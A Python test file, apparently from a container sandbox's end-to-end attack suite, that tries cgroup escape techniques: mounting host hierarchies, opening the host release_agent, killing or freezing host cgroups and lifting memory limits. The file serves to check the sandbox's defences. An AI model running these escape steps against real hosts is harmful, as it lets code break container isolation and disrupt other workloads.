"""The cgroups that a container which can mount reaches in the hierarchies: its own, or those of the machine.

The container has SYS_ADMIN, or makes a user namespace if the kernel and the seccomp filter allow it.
"""

from __future__ import annotations

import errno
import os
from collections.abc import Callable, Iterable
from functools import partial
from pathlib import Path

from tests.e2e.attacks.attempts import attempt, check, libc

VICTIM = "moyai-attack-victim"
"""How the name of a group begins that is on the machine, outside of every container."""
BOUND = 128
"""MiB that the container may have, where it has a bound."""
VERSION_2 = ""
"""The hierarchy of version 2, as /proc/self/cgroup has it."""
_UNUSUAL = ("net_cls", "perf_event", "none,name=attack")
"""Hierarchies that most machines don't have."""
_CLONE_NEWNS, _CLONE_NEWCGROUP, _CLONE_NEWUSER = 0x20000, 0x2000000, 0x10000000
_MS_REC, _MS_PRIVATE = 0x4000, 0x40000
_POINT = Path("/tmp")


def isolate() -> None:
    """Have a mount namespace to mount in."""
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(_CLONE_NEWNS) < 0:
        check(libc.unshare(_CLONE_NEWUSER | _CLONE_NEWNS | _CLONE_NEWCGROUP))
        Path("/proc/self/setgroups").write_text("deny")
        Path("/proc/self/uid_map").write_text(f"0 {uid} 1")
        Path("/proc/self/gid_map").write_text(f"0 {gid} 1")
    check(libc.mount(None, b"/", None, _MS_REC | _MS_PRIVATE, None))


def mount(controllers: str) -> Path:
    """Mount a hierarchy, over whatever is mounted there; where."""
    kind, options = (b"cgroup", controllers.encode()) if controllers else (b"cgroup2", None)
    check(libc.mount(b"attack", str(_POINT).encode(), kind, 0, options))
    return _POINT


def in_any(action: Callable[[str], str], hierarchies: Iterable[str]) -> str:
    """Do it in each hierarchy; where it worked. Raises OSError when it worked nowhere."""
    isolate()
    done, failures = [], [OSError(errno.ENOENT, "no hierarchy")]
    for controllers in hierarchies:
        try:
            done.append(f"{controllers or 'v2'}: {action(controllers)}")
        except OSError as error:
            failures.append(error)
    if not done:
        raise failures[-1]
    return "; ".join(done)


def find_root(controllers: str) -> str:
    """See the root of the machine's hierarchy: only that one has no events, or a release agent."""
    top = mount(controllers)
    if (top / "release_agent").exists() or not (controllers or (top / "cgroup.events").exists()):
        return ", ".join(sorted(path.name for path in top.iterdir() if path.is_dir()))
    raise PermissionError(errno.EPERM, "the root is the container's own group")


def open_release_agent(controllers: str) -> str:
    """Open the file that names a program which the kernel runs as the machine's root."""
    os.close(os.open(mount(controllers) / "release_agent", os.O_WRONLY))
    return "open"


def find_victim(controllers: str) -> Path:
    """A group outside of every container."""
    rglob = sorted(mount(controllers).rglob(f"{VICTIM}*"))
    if not rglob:
        raise FileNotFoundError(errno.ENOENT, "no foreign group")
    return rglob[0]


def change_victim(name: str, text: str, controllers: str) -> str:
    """Write into a file of its."""
    (find_victim(controllers) / name).write_text(text)
    return "changed"


def exceed_memory(controllers: str) -> str:
    """Lift every bound that can be seen, then use twice the memory that the container may have."""
    top = mount(controllers)
    for name, text in (("memory.memsw.limit_in_bytes", "-1"), ("memory.limit_in_bytes", "-1"), ("memory.max", "max")):
        for file in (top / name, *top.rglob(name)):
            if file.exists():
                file.write_text(text)
    return f"{len(bytearray(os.urandom(2 * BOUND * 1024 * 1024))) >> 20} MiB"


def main() -> None:
    """Try all of it."""
    lines = Path("/proc/self/cgroup").read_text().splitlines()
    present = [line.split(":")[1] for line in lines]
    legacy = [controllers for controllers in present if controllers != VERSION_2]
    mounted = {name for controllers in legacy for name in controllers.split(",")}
    memory = [controllers for controllers in legacy if "memory" in controllers.split(",")] or [VERSION_2]
    attempts: tuple[tuple[str, Callable[[str], str], Iterable[str]], ...] = (
        ("see the machine's cgroups of version 1", find_root, legacy),
        ("see the machine's cgroups of version 2", find_root, [VERSION_2]),
        ("open release_agent", open_release_agent, legacy),
        ("kill a cgroup of the machine", partial(change_victim, "cgroup.kill", "1"), [VERSION_2]),
        ("freeze a cgroup of version 1", partial(change_victim, "freezer.state", "FROZEN"), ["freezer"]),
        ("freeze a cgroup of version 2", partial(change_victim, "cgroup.freeze", "1"), [VERSION_2]),
        ("use more than the container's memory", exceed_memory, memory),
        ("make a cgroup hierarchy", lambda name: str(mount(name)), {*_UNUSUAL} - mounted),
    )
    for name, action, hierarchies in attempts:
        attempt(name, partial(in_any, action, hierarchies))


if __name__ == "__main__":
    main()
